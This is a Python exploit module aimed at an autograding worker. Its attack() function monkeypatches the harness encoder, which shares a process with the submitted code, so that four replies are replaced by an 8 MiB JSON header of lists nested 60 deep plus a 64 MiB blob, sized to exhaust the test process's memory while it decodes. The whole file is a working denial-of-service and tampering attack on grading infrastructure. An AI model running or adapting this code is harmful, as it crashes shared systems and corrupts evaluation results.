import sys

HEADER_BYTES = (8 << 20) - 4096  # the reply's JSON header may hold 8 MiB; the frame's own keys take a few bytes
DEPTH = 60  # the decoder allows 64 levels: one item is 60 lists, each inside the one before
BLOB_BYTES = (64 << 20) - 4096  # a reply may also carry 64 MiB of blobs, read whole before the header is decoded
REPLIES = 4  # replies sent so (each a failed test of Problem 1)
_sent = []  # the replies replaced so far
_armed = []  # calls of bytes_per_element whose reply is still to be replaced


def nested_lists(size=HEADER_BYTES, depth=DEPTH):
    """A JSON list of items "[[[...]]]": two characters a list. json.loads builds each as a list object
    (56 bytes, and 32 more for the slots of its one item), and the decoder then builds a copy of the
    whole tree, list by list, while the parsed one is alive: about 180 bytes of the test process per
    character of the reply, every list within the decoder's depth bound."""
    item = "[" * depth + "]" * depth
    count = (size - 2) // (len(item) + 1)
    return "[" + ",".join([item] * count) + "]"


def _replace_encoder(codec):
    """The worker's encoder (it runs in this process, beside the student's code) sends the header above
    instead of the value of this function's reply (and of no other problem's), REPLIES times."""
    if getattr(codec, "nested_lists_armed", False):
        return
    original = codec.encode
    header = nested_lists()

    def encode(value):
        if _armed:
            _armed.clear()
            _sent.append(len(header))
            return header, [bytes(BLOB_BYTES)]  # named by no node: read, and alive while the header is decoded
        return original(value)

    codec.encode = encode
    codec.nested_lists_armed = True


def attack(args):
    codec = sys.modules.get("adapters._codec")
    if codec is not None:
        _replace_encoder(codec)
        if len(_sent) < REPLIES:
            _armed.append(True)
    return None  # the function's own body runs on: its honest answer is replaced on the wire
